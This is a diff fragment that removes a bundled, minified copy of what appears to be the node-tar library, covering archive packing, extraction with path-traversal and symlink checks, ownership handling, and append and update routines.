-        e.charAt(0) === "@" ? Ct({ file: cr.resolve(s3.cwd, e.slice(1)), sync: true, noResume: true, onReadEntry: (i) => s3.add(i) }) : s3.add(e);
-      }), s3.end();
-    };
-    dr = async (s3, t) => {
-      for (let e of t) e.charAt(0) === "@" ? await Ct({ file: cr.resolve(String(s3.cwd), e.slice(1)), noResume: true, onReadEntry: (i) => {
-        s3.add(i);
-      } }) : s3.add(e);
-      s3.end();
-    };
-    Xn = (s3, t) => {
-      let e = new kt(s3);
-      return fr(e, t), e;
-    };
-    qn = (s3, t) => {
-      let e = new wt(s3);
-      return dr(e, t).catch((i) => e.emit("error", i)), e;
-    };
-    Qn = K(Vn, $n, Xn, qn, (s3, t) => {
-      if (!t?.length) throw new TypeError("no paths specified to add to archive");
-    });
-    Jn = process.env.__FAKE_PLATFORM__ || process.platform;
-    Er = Jn === "win32";
-    ({ O_CREAT: wr, O_NOFOLLOW: ur, O_TRUNC: Sr, O_WRONLY: yr } = pr.constants);
-    Rr = Number(process.env.__FAKE_FS_O_FILENAME__) || pr.constants.UV_FS_O_FILEMAP || 0;
-    jn = Er && !!Rr;
-    to = 512 * 1024;
-    eo = Rr | Sr | wr | yr;
-    mr = !Er && typeof ur == "number" ? ur | Sr | wr | yr : null;
-    ms = mr !== null ? () => mr : jn ? (s3) => s3 < to ? eo : "w" : () => "w";
-    ps = (s3, t, e) => {
-      try {
-        return wi.lchownSync(s3, t, e);
-      } catch (i) {
-        if (i?.code !== "ENOENT") throw i;
-      }
-    };
-    Ei = (s3, t, e, i) => {
-      wi.lchown(s3, t, e, (r) => {
-        i(r && r?.code !== "ENOENT" ? r : null);
-      });
-    };
-    io = (s3, t, e, i, r) => {
-      if (t.isDirectory()) Es(we.resolve(s3, t.name), e, i, (n) => {
-        if (n) return r(n);
-        let o = we.resolve(s3, t.name);
-        Ei(o, e, i, r);
-      });
-      else {
-        let n = we.resolve(s3, t.name);
-        Ei(n, e, i, r);
-      }
-    };
-    Es = (s3, t, e, i) => {
-      wi.readdir(s3, { withFileTypes: true }, (r, n) => {
-        if (r) {
-          if (r.code === "ENOENT") return i();
-          if (r.code !== "ENOTDIR" && r.code !== "ENOTSUP") return i(r);
-        }
-        if (r || !n.length) return Ei(s3, t, e, i);
-        let o = n.length, h = null, a = (l) => {
-          if (!h) {
-            if (l) return i(h = l);
-            if (--o === 0) return Ei(s3, t, e, i);
-          }
-        };
-        for (let l of n) io(s3, l, t, e, a);
-      });
-    };
-    so = (s3, t, e, i) => {
-      t.isDirectory() && ws(we.resolve(s3, t.name), e, i), ps(we.resolve(s3, t.name), e, i);
-    };
-    ws = (s3, t, e) => {
-      let i;
-      try {
-        i = wi.readdirSync(s3, { withFileTypes: true });
-      } catch (r) {
-        let n = r;
-        if (n?.code === "ENOENT") return;
-        if (n?.code === "ENOTDIR" || n?.code === "ENOTSUP") return ps(s3, t, e);
-        throw n;
-      }
-      for (let r of i) so(s3, r, t, e);
-      return ps(s3, t, e);
-    };
-    Se = class extends Error {
-      path;
-      code;
-      syscall = "chdir";
-      constructor(t, e) {
-        super(`${e}: Cannot cd into '${t}'`), this.path = t, this.code = e;
-      }
-      get name() {
-        return "CwdError";
-      }
-    };
-    St = class extends Error {
-      path;
-      symlink;
-      syscall = "symlink";
-      code = "TAR_SYMLINK_ERROR";
-      constructor(t, e) {
-        super("TAR_SYMLINK_ERROR: Cannot extract through symbolic link"), this.symlink = t, this.path = e;
-      }
-      get name() {
-        return "SymlinkError";
-      }
-    };
-    no = (s3, t) => {
-      k.stat(s3, (e, i) => {
-        (e || !i.isDirectory()) && (e = new Se(s3, e?.code || "ENOTDIR")), t(e);
-      });
-    };
-    gr = (s3, t, e) => {
-      s3 = f(s3);
-      let i = t.umask ?? 18, r = t.mode | 448, n = (r & i) !== 0, o = t.uid, h = t.gid, a = typeof o == "number" && typeof h == "number" && (o !== t.processUid || h !== t.processGid), l = t.preserve, c = t.unlink, d = f(t.cwd), y = (E, x) => {
-        E ? e(E) : x && a ? Es(x, o, h, (Le) => y(Le)) : n ? k.chmod(s3, r, e) : e();
-      };
-      if (s3 === d) return no(s3, y);
-      if (l) return ro.mkdir(s3, { mode: r, recursive: true }).then((E) => y(null, E ?? void 0), y);
-      let D = f(Si.relative(d, s3)).split("/");
-      Ss(d, D, r, c, d, void 0, y);
-    };
-    Ss = (s3, t, e, i, r, n, o) => {
-      if (t.length === 0) return o(null, n);
-      let h = t.shift(), a = f(Si.resolve(s3 + "/" + h));
-      k.mkdir(a, e, br(a, t, e, i, r, n, o));
-    };
-    br = (s3, t, e, i, r, n, o) => (h) => {
-      h ? k.lstat(s3, (a, l) => {
-        if (a) a.path = a.path && f(a.path), o(a);
-        else if (l.isDirectory()) Ss(s3, t, e, i, r, n, o);
-        else if (i) k.unlink(s3, (c) => {
-          if (c) return o(c);
-          k.mkdir(s3, e, br(s3, t, e, i, r, n, o));
-        });
-        else {
-          if (l.isSymbolicLink()) return o(new St(s3, s3 + "/" + t.join("/")));
-          o(h);
-        }
-      }) : (n = n || s3, Ss(s3, t, e, i, r, n, o));
-    };
-    oo = (s3) => {
-      let t = false, e;
-      try {
-        t = k.statSync(s3).isDirectory();
-      } catch (i) {
-        e = i?.code;
-      } finally {
-        if (!t) throw new Se(s3, e ?? "ENOTDIR");
-      }
-    };
-    _r = (s3, t) => {
-      s3 = f(s3);
-      let e = t.umask ?? 18, i = t.mode | 448, r = (i & e) !== 0, n = t.uid, o = t.gid, h = typeof n == "number" && typeof o == "number" && (n !== t.processUid || o !== t.processGid), a = t.preserve, l = t.unlink, c = f(t.cwd), d = (E) => {
-        E && h && ws(E, n, o), r && k.chmodSync(s3, i);
-      };
-      if (s3 === c) return oo(c), d();
-      if (a) return d(k.mkdirSync(s3, { mode: i, recursive: true }) ?? void 0);
-      let T = f(Si.relative(c, s3)).split("/"), D;
-      for (let E = T.shift(), x = c; E && (x += "/" + E); E = T.shift()) {
-        x = f(Si.resolve(x));
-        try {
-          k.mkdirSync(x, i), D = D || x;
-        } catch {
-          let Le = k.lstatSync(x);
-          if (Le.isDirectory()) continue;
-          if (l) {
-            k.unlinkSync(x), k.mkdirSync(x, i), D = D || x;
-            continue;
-          } else if (Le.isSymbolicLink()) return new St(x, x + "/" + T.join("/"));
-        }
-      }
-      return d(D);
-    };
-    ys = /* @__PURE__ */ Object.create(null);
-    Or = 1e4;
-    Vt = /* @__PURE__ */ new Set();
-    Tr = (s3) => {
-      Vt.has(s3) ? Vt.delete(s3) : ys[s3] = s3.normalize("NFD").toLocaleLowerCase("en").toLocaleUpperCase("en"), Vt.add(s3);
-      let t = ys[s3], e = Vt.size - Or;
-      if (e > Or / 10) {
-        for (let i of Vt) if (Vt.delete(i), delete ys[i], --e <= 0) break;
-      }
-      return t;
-    };
-    ho = process.env.TESTING_TAR_FAKE_PLATFORM || process.platform;
-    ao = ho === "win32";
-    lo = (s3) => s3.split("/").slice(0, -1).reduce((e, i) => {
-      let r = e.at(-1);
-      return r !== void 0 && (i = xr(r, i)), e.push(i || "/"), e;
-    }, []);
-    yi = class {
-      #t = /* @__PURE__ */ new Map();
-      #i = /* @__PURE__ */ new Map();
-      #s = /* @__PURE__ */ new Set();
-      reserve(t, e) {
-        t = ao ? ["win32 parallelization disabled"] : t.map((r) => mt(xr(Tr(r))));
-        let i = new Set(t.map((r) => lo(r)).reduce((r, n) => r.concat(n)));
-        this.#i.set(e, { dirs: i, paths: t });
-        for (let r of t) {
-          let n = this.#t.get(r);
-          n ? n.push(e) : this.#t.set(r, [e]);
-        }
-        for (let r of i) {
-          let n = this.#t.get(r);
-          if (!n) this.#t.set(r, [/* @__PURE__ */ new Set([e])]);
-          else {
-            let o = n.at(-1);
-            o instanceof Set ? o.add(e) : n.push(/* @__PURE__ */ new Set([e]));
-          }
-        }
-        return this.#r(e);
-      }
-      #n(t) {
-        let e = this.#i.get(t);
-        if (!e) throw new Error("function does not have any path reservations");
-        return { paths: e.paths.map((i) => this.#t.get(i)), dirs: [...e.dirs].map((i) => this.#t.get(i)) };
-      }
-      check(t) {
-        let { paths: e, dirs: i } = this.#n(t);
-        return e.every((r) => r && r[0] === t) && i.every((r) => r && r[0] instanceof Set && r[0].has(t));
-      }
-      #r(t) {
-        return this.#s.has(t) || !this.check(t) ? false : (this.#s.add(t), t(() => this.#e(t)), true);
-      }
-      #e(t) {
-        if (!this.#s.has(t)) return false;
-        let e = this.#i.get(t);
-        if (!e) throw new Error("invalid reservation");
-        let { paths: i, dirs: r } = e, n = /* @__PURE__ */ new Set();
-        for (let o of i) {
-          let h = this.#t.get(o);
-          if (!h || h?.[0] !== t) continue;
-          let a = h[1];
-          if (!a) {
-            this.#t.delete(o);
-            continue;
-          }
-          if (h.shift(), typeof a == "function") n.add(a);
-          else for (let l of a) n.add(l);
-        }
-        for (let o of r) {
-          let h = this.#t.get(o), a = h?.[0];
-          if (!(!h || !(a instanceof Set))) if (a.size === 1 && h.length === 1) {
-            this.#t.delete(o);
-            continue;
-          } else if (a.size === 1) {
-            h.shift();
-            let l = h[0];
-            typeof l == "function" && n.add(l);
-          } else a.delete(t);
-        }
-        return this.#s.delete(t), n.forEach((o) => this.#r(o)), true;
-      }
-    };
-    Lr = () => process.umask();
-    Dr = Symbol("onEntry");
-    _s = Symbol("checkFs");
-    Nr = Symbol("checkFs2");
-    Os = Symbol("isReusable");
-    P = Symbol("makeFs");
-    Ts = Symbol("file");
-    xs = Symbol("directory");
-    gi = Symbol("link");
-    Ar = Symbol("symlink");
-    Ir = Symbol("hardlink");
-    Re = Symbol("ensureNoSymlink");
-    Cr = Symbol("unsupported");
-    Fr = Symbol("checkPath");
-    Rs = Symbol("stripAbsolutePath");
-    yt = Symbol("mkdir");
-    O = Symbol("onError");
-    Ri = Symbol("pending");
-    kr = Symbol("pend");
-    $t = Symbol("unpend");
-    gs = Symbol("ended");
-    bs = Symbol("maybeClose");
-    Ls = Symbol("skip");
-    ge = Symbol("doChown");
-    be = Symbol("uid");
-    _e = Symbol("gid");
-    Oe = Symbol("checkedCwd");
-    fo = process.env.TESTING_TAR_FAKE_PLATFORM || process.platform;
-    Te = fo === "win32";
-    uo = 1024;
-    mo = (s3, t) => {
-      if (!Te) return u.unlink(s3, t);
-      let e = s3 + ".DELETE." + Mr(16).toString("hex");
-      u.rename(s3, e, (i) => {
-        if (i) return t(i);
-        u.unlink(e, t);
-      });
-    };
-    po = (s3) => {
-      if (!Te) return u.unlinkSync(s3);
-      let t = s3 + ".DELETE." + Mr(16).toString("hex");
-      u.renameSync(s3, t), u.unlinkSync(t);
-    };
-    vr = (s3, t, e) => s3 !== void 0 && s3 === s3 >>> 0 ? s3 : t !== void 0 && t === t >>> 0 ? t : e;
-    Xt = class extends rt {
-      [gs] = false;
-      [Oe] = false;
-      [Ri] = 0;
-      reservations = new yi();
-      transform;
-      writable = true;
-      readable = false;
-      uid;
-      gid;
-      setOwner;
-      preserveOwner;
-      processGid;
-      processUid;
-      maxDepth;
-      forceChown;
-      win32;
-      newer;
-      keep;
-      noMtime;
-      preservePaths;
-      unlink;
-      cwd;
-      strip;
-      processUmask;
-      umask;
-      dmode;
-      fmode;
-      chmod;
-      constructor(t = {}) {
-        if (t.ondone = () => {
-          this[gs] = true, this[bs]();
-        }, super(t), this.transform = t.transform, this.chmod = !!t.chmod, typeof t.uid == "number" || typeof t.gid == "number") {
-          if (typeof t.uid != "number" || typeof t.gid != "number") throw new TypeError("cannot set owner without number uid and gid");
-          if (t.preserveOwner) throw new TypeError("cannot preserve owner in archive and also set owner explicitly");
-          this.uid = t.uid, this.gid = t.gid, this.setOwner = true;
-        } else this.uid = void 0, this.gid = void 0, this.setOwner = false;
-        this.preserveOwner = t.preserveOwner === void 0 && typeof t.uid != "number" ? process.getuid?.() === 0 : !!t.preserveOwner, this.processUid = (this.preserveOwner || this.setOwner) && process.getuid ? process.getuid() : void 0, this.processGid = (this.preserveOwner || this.setOwner) && process.getgid ? process.getgid() : void 0, this.maxDepth = typeof t.maxDepth == "number" ? t.maxDepth : uo, this.forceChown = t.forceChown === true, this.win32 = !!t.win32 || Te, this.newer = !!t.newer, this.keep = !!t.keep, this.noMtime = !!t.noMtime, this.preservePaths = !!t.preservePaths, this.unlink = !!t.unlink, this.cwd = f(R.resolve(t.cwd || process.cwd())), this.strip = Number(t.strip) || 0, this.processUmask = this.chmod ? typeof t.processUmask == "number" ? t.processUmask : Lr() : 0, this.umask = typeof t.umask == "number" ? t.umask : this.processUmask, this.dmode = t.dmode || 511 & ~this.umask, this.fmode = t.fmode || 438 & ~this.umask, this.on("entry", (e) => this[Dr](e));
-      }
-      warn(t, e, i = {}) {
-        return (t === "TAR_BAD_ARCHIVE" || t === "TAR_ABORT") && (i.recoverable = false), super.warn(t, e, i);
-      }
-      [bs]() {
-        this[gs] && this[Ri] === 0 && (this.emit("prefinish"), this.emit("finish"), this.emit("end"));
-      }
-      [Rs](t, e) {
-        let i = t[e], { type: r } = t;
-        if (!i || this.preservePaths) return true;
-        let [n, o] = ce(i), h = o.replaceAll(/\\/g, "/").split("/");
-        if (h.includes("..") || Te && /^[a-z]:\.\.$/i.test(h[0] ?? "")) {
-          if (e === "path" || r === "Link") return this.warn("TAR_ENTRY_ERROR", `${e} contains '..'`, { entry: t, [e]: i }), false;
-          let a = R.posix.dirname(t.path), l = R.posix.normalize(R.posix.join(a, h.join("/")));
-          if (l.startsWith("../") || l === "..") return this.warn("TAR_ENTRY_ERROR", `${e} escapes extraction directory`, { entry: t, [e]: i }), false;
-        }
-        return n && (t[e] = String(o), this.warn("TAR_ENTRY_INFO", `stripping ${n} from absolute ${e}`, { entry: t, [e]: i })), true;
-      }
-      [Fr](t) {
-        let e = f(t.path), i = e.split("/");
-        if (this.strip) {
-          if (i.length < this.strip) return false;
-          if (t.type === "Link") {
-            let r = f(String(t.linkpath)).split("/");
-            if (r.length >= this.strip) t.linkpath = r.slice(this.strip).join("/");
-            else return false;
-          }
-          i.splice(0, this.strip), t.path = i.join("/");
-        }
-        if (isFinite(this.maxDepth) && i.length > this.maxDepth) return this.warn("TAR_ENTRY_ERROR", "path excessively deep", { entry: t, path: e, depth: i.length, maxDepth: this.maxDepth }), false;
-        if (!this[Rs](t, "path") || !this[Rs](t, "linkpath")) return false;
-        if (t.absolute = R.isAbsolute(t.path) ? f(R.resolve(t.path)) : f(R.resolve(this.cwd, t.path)), !this.preservePaths && typeof t.absolute == "string" && t.absolute.indexOf(this.cwd + "/") !== 0 && t.absolute !== this.cwd) return this.warn("TAR_ENTRY_ERROR", "path escaped extraction target", { entry: t, path: f(t.path), resolvedPath: t.absolute, cwd: this.cwd }), false;
-        if (t.absolute === this.cwd && t.type !== "Directory" && t.type !== "GNUDumpDir") return false;
-        if (this.win32) {
-          let { root: r } = R.win32.parse(String(t.absolute));
-          t.absolute = r + ts(String(t.absolute).slice(r.length));
-          let { root: n } = R.win32.parse(t.path);
-          t.path = n + ts(t.path.slice(n.length));
-        }
-        return true;
-      }
-      [Dr](t) {
-        if (!this[Fr](t)) return t.resume();
-        switch (co.equal(typeof t.absolute, "string"), t.type) {
-          case "Directory":
-          case "GNUDumpDir":
-            t.mode && (t.mode = t.mode | 448);
-          case "File":
-          case "OldFile":
-          case "ContiguousFile":
-          case "Link":
-          case "SymbolicLink":
-            return this[_s](t);
-          default:
-            return this[Cr](t);
-        }
-      }
-      [O](t, e) {
-        t.name === "CwdError" ? this.emit("error", t) : (this.warn("TAR_ENTRY_ERROR", t, { entry: e }), this[$t](), e.resume());
-      }
-      [yt](t, e, i) {
-        gr(f(t), { uid: this.uid, gid: this.gid, processUid: this.processUid, processGid: this.processGid, umask: this.processUmask, preserve: this.preservePaths, unlink: this.unlink, cwd: this.cwd, mode: e }, i);
-      }
-      [ge](t) {
-        return this.forceChown || this.preserveOwner && (typeof t.uid == "number" && t.uid !== this.processUid || typeof t.gid == "number" && t.gid !== this.processGid) || typeof this.uid == "number" && this.uid !== this.processUid || typeof this.gid == "number" && this.gid !== this.processGid;
-      }
-      [be](t) {
-        return vr(this.uid, t.uid, this.processUid);
-      }
-      [_e](t) {
-        return vr(this.gid, t.gid, this.processGid);
-      }
-      [Ts](t, e) {
-        let i = typeof t.mode == "number" ? t.mode & 4095 : this.fmode, r = new et(String(t.absolute), { flags: ms(t.size), mode: i, autoClose: false });
-        r.on("error", (a) => {
-          r.fd && u.close(r.fd, () => {
-          }), r.write = () => true, this[O](a, t), e();
-        });
-        let n = 1, o = (a) => {
-          if (a) {
-            r.fd && u.close(r.fd, () => {
-            }), this[O](a, t), e();
-            return;
-          }
-          --n === 0 && r.fd !== void 0 && u.close(r.fd, (l) => {
-            l ? this[O](l, t) : this[$t](), e();
-          });
-        };
-        r.on("finish", () => {
-          let a = String(t.absolute), l = r.fd;
-          if (typeof l == "number" && t.mtime && !this.noMtime) {
-            n++;
-            let c = t.atime || /* @__PURE__ */ new Date(), d = t.mtime;
-            u.futimes(l, c, d, (y) => y ? u.utimes(a, c, d, (T) => o(T && y)) : o());
-          }
-          if (typeof l == "number" && this[ge](t)) {
-            n++;
-            let c = this[be](t), d = this[_e](t);
-            typeof c == "number" && typeof d == "number" && u.fchown(l, c, d, (y) => y ? u.chown(a, c, d, (T) => o(T && y)) : o());
-          }
-          o();
-        });
-        let h = this.transform && this.transform(t) || t;
-        h !== t && (h.on("error", (a) => {
-          this[O](a, t), e();
-        }), t.pipe(h)), h.pipe(r);
-      }
-      [xs](t, e) {
-        let i = typeof t.mode == "number" ? t.mode & 4095 : this.dmode;
-        this[yt](String(t.absolute), i, (r) => {
-          if (r) {
-            this[O](r, t), e();
-            return;
-          }
-          let n = 1, o = () => {
-            --n === 0 && (e(), this[$t](), t.resume());
-          };
-          t.mtime && !this.noMtime && (n++, u.utimes(String(t.absolute), t.atime || /* @__PURE__ */ new Date(), t.mtime, o)), this[ge](t) && (n++, u.chown(String(t.absolute), Number(this[be](t)), Number(this[_e](t)), o)), o();
-        });
-      }
-      [Cr](t) {
-        t.unsupported = true, this.warn("TAR_ENTRY_UNSUPPORTED", `unsupported entry type: ${t.type}`, { entry: t }), t.resume();
-      }
-      [Ar](t, e) {
-        let i = f(R.relative(this.cwd, R.resolve(R.dirname(String(t.absolute)), String(t.linkpath)))).split("/");
-        this[Re](t, this.cwd, i, () => this[gi](t, String(t.linkpath), "symlink", e), (r) => {
-          this[O](r, t), e();
-        });
-      }
-      [Ir](t, e) {
-        let i = f(R.resolve(this.cwd, String(t.linkpath))), r = f(String(t.linkpath)).split("/");
-        this[Re](t, this.cwd, r, () => this[gi](t, i, "link", e), (n) => {
-          this[O](n, t), e();
-        });
-      }
-      [Re](t, e, i, r, n) {
-        let o = i.shift();
-        if (this.preservePaths || o === void 0) return r();
-        let h = R.resolve(e, o);
-        u.lstat(h, (a, l) => {
-          if (a) return r();
-          if (l?.isSymbolicLink()) return n(new St(h, R.resolve(h, i.join("/"))));
-          this[Re](t, h, i, r, n);
-        });
-      }
-      [kr]() {
-        this[Ri]++;
-      }
-      [$t]() {
-        this[Ri]--, this[bs]();
-      }
-      [Ls](t) {
-        this[$t](), t.resume();
-      }
-      [Os](t, e) {
-        return t.type === "File" && !this.unlink && e.isFile() && e.nlink <= 1 && !Te;
-      }
-      [_s](t) {
-        this[kr]();
-        let e = [t.path];
-        t.linkpath && e.push(t.linkpath), this.reservations.reserve(e, (i) => this[Nr](t, i));
-      }
-      [Nr](t, e) {
-        let i = (h) => {
-          e(h);
-        }, r = () => {
-          this[yt](this.cwd, this.dmode, (h) => {
-            if (h) {
-              this[O](h, t), i();
-              return;
-            }
-            this[Oe] = true, n();
-          });
-        }, n = () => {
-          if (t.absolute !== this.cwd) {
-            let h = f(R.dirname(String(t.absolute)));
-            if (h !== this.cwd) return this[yt](h, this.dmode, (a) => {
-              if (a) {
-                this[O](a, t), i();
-                return;
-              }
-              o();
-            });
-          }
-          o();
-        }, o = () => {
-          u.lstat(String(t.absolute), (h, a) => {
-            if (a && (this.keep || this.newer && a.mtime > (t.mtime ?? a.mtime))) {
-              this[Ls](t), i();
-              return;
-            }
-            if (h || this[Os](t, a)) return this[P](null, t, i);
-            if (a.isDirectory()) {
-              if (t.type === "Directory") {
-                let l = this.chmod && t.mode && (a.mode & 4095) !== t.mode, c = (d) => this[P](d ?? null, t, i);
-                return l ? u.chmod(String(t.absolute), Number(t.mode), c) : c();
-              }
-              if (t.absolute !== this.cwd) return u.rmdir(String(t.absolute), (l) => this[P](l ?? null, t, i));
-            }
-            if (t.absolute === this.cwd) return this[P](null, t, i);
-            mo(String(t.absolute), (l) => this[P](l ?? null, t, i));
-          });
-        };
-        this[Oe] ? n() : r();
-      }
-      [P](t, e, i) {
-        if (t) {
-          this[O](t, e), i();
-          return;
-        }
-        switch (e.type) {
-          case "File":
-          case "OldFile":
-          case "ContiguousFile":
-            return this[Ts](e, i);
-          case "Link":
-            return this[Ir](e, i);
-          case "SymbolicLink":
-            return this[Ar](e, i);
-          case "Directory":
-          case "GNUDumpDir":
-            return this[xs](e, i);
-        }
-      }
-      [gi](t, e, i, r) {
-        u[i](e, String(t.absolute), (n) => {
-          n ? this[O](n, t) : (this[$t](), t.resume()), r();
-        });
-      }
-    };
-    ye = (s3) => {
-      try {
-        return [null, s3()];
-      } catch (t) {
-        return [t, null];
-      }
-    };
-    xe = class extends Xt {
-      sync = true;
-      [P](t, e) {
-        return super[P](t, e, () => {
-        });
-      }
-      [_s](t) {
-        if (!this[Oe]) {
-          let n = this[yt](this.cwd, this.dmode);
-          if (n) return this[O](n, t);
-          this[Oe] = true;
-        }
-        if (t.absolute !== this.cwd) {
-          let n = f(R.dirname(String(t.absolute)));
-          if (n !== this.cwd) {
-            let o = this[yt](n, this.dmode);
-            if (o) return this[O](o, t);
-          }
-        }
-        let [e, i] = ye(() => u.lstatSync(String(t.absolute)));
-        if (i && (this.keep || this.newer && i.mtime > (t.mtime ?? i.mtime))) return this[Ls](t);
-        if (e || this[Os](t, i)) return this[P](null, t);
-        if (i.isDirectory()) {
-          if (t.type === "Directory") {
-            let o = this.chmod && t.mode && (i.mode & 4095) !== t.mode, [h] = o ? ye(() => {
-              u.chmodSync(String(t.absolute), Number(t.mode));
-            }) : [];
-            return this[P](h, t);
-          }
-          let [n] = ye(() => u.rmdirSync(String(t.absolute)));
-          this[P](n, t);
-        }
-        let [r] = t.absolute === this.cwd ? [] : ye(() => po(String(t.absolute)));
-        this[P](r, t);
-      }
-      [Ts](t, e) {
-        let i = typeof t.mode == "number" ? t.mode & 4095 : this.fmode, r = (h) => {
-          let a;
-          try {
-            u.closeSync(n);
-          } catch (l) {
-            a = l;
-          }
-          (h || a) && this[O](h || a, t), e();
-        }, n;
-        try {
-          n = u.openSync(String(t.absolute), ms(t.size), i);
-        } catch (h) {
-          return r(h);
-        }
-        let o = this.transform && this.transform(t) || t;
-        o !== t && (o.on("error", (h) => this[O](h, t)), t.pipe(o)), o.on("data", (h) => {
-          try {
-            u.writeSync(n, h, 0, h.length);
-          } catch (a) {
-            r(a);
-          }
-        }), o.on("end", () => {
-          let h = null;
-          if (t.mtime && !this.noMtime) {
-            let a = t.atime || /* @__PURE__ */ new Date(), l = t.mtime;
-            try {
-              u.futimesSync(n, a, l);
-            } catch (c) {
-              try {
-                u.utimesSync(String(t.absolute), a, l);
-              } catch {
-                h = c;
-              }
-            }
-          }
-          if (this[ge](t)) {
-            let a = this[be](t), l = this[_e](t);
-            try {
-              u.fchownSync(n, Number(a), Number(l));
-            } catch (c) {
-              try {
-                u.chownSync(String(t.absolute), Number(a), Number(l));
-              } catch {
-                h = h || c;
-              }
-            }
-          }
-          r(h);
-        });
-      }
-      [xs](t, e) {
-        let i = typeof t.mode == "number" ? t.mode & 4095 : this.dmode, r = this[yt](String(t.absolute), i);
-        if (r) {
-          this[O](r, t), e();
-          return;
-        }
-        if (t.mtime && !this.noMtime) try {
-          u.utimesSync(String(t.absolute), t.atime || /* @__PURE__ */ new Date(), t.mtime);
-        } catch {
-        }
-        if (this[ge](t)) try {
-          u.chownSync(String(t.absolute), Number(this[be](t)), Number(this[_e](t)));
-        } catch {
-        }
-        e(), t.resume();
-      }
-      [yt](t, e) {
-        try {
-          return _r(f(t), { uid: this.uid, gid: this.gid, processUid: this.processUid, processGid: this.processGid, umask: this.processUmask, preserve: this.preservePaths, unlink: this.unlink, cwd: this.cwd, mode: e });
-        } catch (i) {
-          return i;
-        }
-      }
-      [Re](t, e, i, r, n) {
-        if (this.preservePaths || i.length === 0) return r();
-        let o = e;
-        for (let h of i) {
-          o = R.resolve(o, h);
-          let [a, l] = ye(() => u.lstatSync(o));
-          if (a) return r();
-          if (l.isSymbolicLink()) return n(new St(o, R.resolve(e, i.join("/"))));
-        }
-        r();
-      }
-      [gi](t, e, i, r) {
-        let n = `${i}Sync`;
-        try {
-          u[n](e, String(t.absolute)), r(), t.resume();
-        } catch (o) {
-          return this[O](o, t);
-        }
-      }
-    };
-    Eo = (s3) => {
-      let t = new xe(s3), e = s3.file, i = Br.statSync(e), r = s3.maxReadSize || 16 * 1024 * 1024;
-      new Be(e, { readSize: r, size: i.size }).pipe(t);
-    };
-    wo = (s3, t) => {
-      let e = new Xt(s3), i = s3.maxReadSize || 16 * 1024 * 1024, r = s3.file;
-      return new Promise((o, h) => {
-        e.on("error", h), e.on("close", o), Br.stat(r, (a, l) => {
-          if (a) h(a);
-          else {
-            let c = new _t(r, { readSize: i, size: l.size });
-            c.on("error", h), c.pipe(e);
-          }
-        });
-      });
-    };
-    So = K(Eo, wo, (s3) => new xe(s3), (s3) => new Xt(s3), (s3, t) => {
-      t?.length && Qi(s3, t);
-    });
-    yo = (s3, t) => {
-      let e = new kt(s3), i = true, r, n;
-      try {
-        try {
-          r = v.openSync(s3.file, "r+");
-        } catch (a) {
-          if (a?.code === "ENOENT") r = v.openSync(s3.file, "w+");
-          else throw a;
-        }
-        let o = v.fstatSync(r), h = Buffer.alloc(512);
-        t: for (n = 0; n < o.size; n += 512) {
-          for (let c = 0, d = 0; c < 512; c += d) {
-            if (d = v.readSync(r, h, c, h.length - c, n + c), n === 0 && h[0] === 31 && h[1] === 139) throw new Error("cannot append to compressed archives");
-            if (!d) break t;
-          }
-          let a = new F(h);
-          if (!a.cksumValid) break;
-          let l = 512 * Math.ceil((a.size || 0) / 512);
-          if (n + l + 512 > o.size) break;
-          n += l, s3.mtimeCache && a.mtime && s3.mtimeCache.set(String(a.path), a.mtime);
-        }
-        i = false, Ro(s3, e, n, r, t);
-      } finally {
-        if (i) try {
-          v.closeSync(r);
-        } catch {
-        }
-      }
-    };
-    Ro = (s3, t, e, i, r) => {
-      let n = new Wt(s3.file, { fd: i, start: e });
-      t.pipe(n), bo(t, r);
-    };
-    go = (s3, t) => {
-      t = Array.from(t);
-      let e = new wt(s3), i = (n, o, h) => {
-        let a = (T, D) => {
-          T ? v.close(n, (E) => h(T)) : h(null, D);
-        }, l = 0;
-        if (o === 0) return a(null, 0);
-        let c = 0, d = Buffer.alloc(512), y = (T, D) => {
-          if (T || D === void 0) return a(T);
-          if (c += D, c < 512 && D) return v.read(n, d, c, d.length - c, l + c, y);
-          if (l === 0 && d[0] === 31 && d[1] === 139) return a(new Error("cannot append to compressed archives"));
-          if (c < 512) return a(null, l);
-          let E = new F(d);
-          if (!E.cksumValid) return a(null, l);
-          let x = 512 * Math.ceil((E.size ?? 0) / 512);
-          if (l + x + 512 > o || (l += x + 512, l >= o)) return a(null, l);
-          s3.mtimeCache && E.mtime && s3.mtimeCache.set(String(E.path), E.mtime), c = 0, v.read(n, d, 0, 512, l, y);
-        };
-        v.read(n, d, 0, 512, l, y);
-      };
-      return new Promise((n, o) => {
-        e.on("error", o);
-        let h = "r+", a = (l, c) => {
-          if (l && l.code === "ENOENT" && h === "r+") return h = "w+", v.open(s3.file, h, a);
-          if (l || !c) return o(l);
-          v.fstat(c, (d, y) => {
-            if (d) return v.close(c, () => o(d));
-            i(c, y.size, (T, D) => {
-              if (T) return o(T);
-              let E = new et(s3.file, { fd: c, start: D });
-              e.pipe(E), E.on("error", o), E.on("close", n), _o(e, t);
-            });
-          });
-        };
-        v.open(s3.file, h, a);
-      });
-    };
-    bo = (s3, t) => {
-      t.forEach((e) => {
-        e.charAt(0) === "@" ? Ct({ file: Pr.resolve(s3.cwd, e.slice(1)), sync: true, noResume: true, onReadEntry: (i) => s3.add(i) }) : s3.add(e);
-      }), s3.end();
-    };
-    _o = async (s3, t) => {
-      for (let e of t) e.charAt(0) === "@" ? await Ct({ file: Pr.resolve(String(s3.cwd), e.slice(1)), noResume: true, onReadEntry: (i) => s3.add(i) }) : s3.add(e);
-      s3.end();
-    };
-    vt = K(yo, go, () => {
-      throw new TypeError("file is required");
-    }, () => {
-      throw new TypeError("file is required");
-    }, (s3, t) => {
-      if (!Bs(s3)) throw new TypeError("file is required");
-      if (s3.gzip || s3.brotli || s3.zstd || s3.file.endsWith(".br") || s3.file.endsWith(".tbr")) throw new TypeError("cannot append to compressed archives");
-      if (!t?.length) throw new TypeError("no paths specified to add/replace");
-    });
-    Oo = K(vt.syncFile, vt.asyncFile, vt.syncNoFile, vt.asyncNoFile, (s3, t = []) => {
-      vt.validate?.(s3, t), To(s3);
-    });
-    To = (s3) => {
-      let t = s3.filter;
-      s3.mtimeCache || (s3.mtimeCache = /* @__PURE__ */ new Map()), s3.filter = t ? (e, i) => t(e, i) && !((s3.mtimeCache?.get(e) ?? i.mtime ?? 0) > (i.mtime ?? 0)) : (e, i) => !((s3.mtimeCache?.get(e) ?? i.mtime ?? 0) > (i.mtime ?? 0));
-    };
-  }
-});
-
-// src/scan/tar.ts
-import { createReadStream as createReadStream2, createWriteStream } from "node:fs";
